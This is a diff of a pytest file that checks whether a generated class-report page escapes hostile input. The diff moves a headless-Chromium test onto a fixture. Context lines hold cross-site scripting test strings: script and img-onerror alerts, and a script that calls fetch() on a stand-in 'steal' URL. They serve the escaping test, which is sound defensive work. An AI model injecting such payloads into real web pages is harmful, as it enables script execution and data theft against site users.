@@ -23,7 +23,6 @@ HERE = Path(__file__).parent
 LESSON = "02_lasso"
 COPIERS = ("copier_a", "copier_b")
 CLASS_REPORT_DIR = HERE / "class_report"
-CHROMIUM = Path("/usr/bin/chromium")
 #: A message and an answer that would run in a browser if the page did not escape them.
 HOSTILE_MESSAGE = "<script>alert('message')</script><img src=x onerror=alert(1)> & more"
 HOSTILE_CODE = "# </pre><script>fetch('http://example.com/steal')</script>\nx = '<b>bold</b>'"
@@ -139,28 +138,24 @@ def test_value_answers_shared_where_the_class_differs():
     assert [(m.grade_id, m.students) for m in matches] == [("random_search_best", ["s3", "s7"])]
 
 
-@pytest.mark.skipif(not CHROMIUM.is_file(), reason=f"{CHROMIUM} is missing: apt-get install chromium")
-def test_the_page_in_headless_chromium_requests_nothing_and_runs_no_script(synthetic):
-    from playwright.sync_api import sync_playwright
-
+def test_the_page_in_headless_chromium_requests_nothing_and_runs_no_script(synthetic, chromium):
     _, page_path, _ = synthetic
     url = page_path.resolve().as_uri()
     requests, dialogs, errors = [], [], []
-    with sync_playwright() as pw:
-        browser = pw.chromium.launch(executable_path=str(CHROMIUM), headless=True)
-        try:
-            page = browser.new_page()
-            page.on("request", lambda r: r.url != url and not r.url.startswith("data:") and requests.append(r.url))
-            page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
-            page.on("pageerror", lambda e: errors.append(str(e)))
-            page.goto(url, wait_until="load")
-            page.wait_for_load_state("networkidle")
-            assert page.evaluate("document.scripts.length") == 0
-            assert page.evaluate("[...document.images].every(i => i.complete && i.naturalWidth > 0)")
-            assert page.evaluate("document.images.length") == 1
-            body = page.text_content("body")
-        finally:
-            browser.close()
+    context = chromium.new_context()
+    try:
+        page = context.new_page()
+        page.on("request", lambda r: r.url != url and not r.url.startswith("data:") and requests.append(r.url))
+        page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+        page.on("pageerror", lambda e: errors.append(str(e)))
+        page.goto(url, wait_until="load")
+        page.wait_for_load_state("networkidle")
+        assert page.evaluate("document.scripts.length") == 0
+        assert page.evaluate("[...document.images].every(i => i.complete && i.naturalWidth > 0)")
+        assert page.evaluate("document.images.length") == 1
+        body = page.text_content("body")
+    finally:
+        context.close()
     assert not requests, requests
     assert not dialogs and not errors
     assert "<script>alert('message')</script>" in body  # shown as text
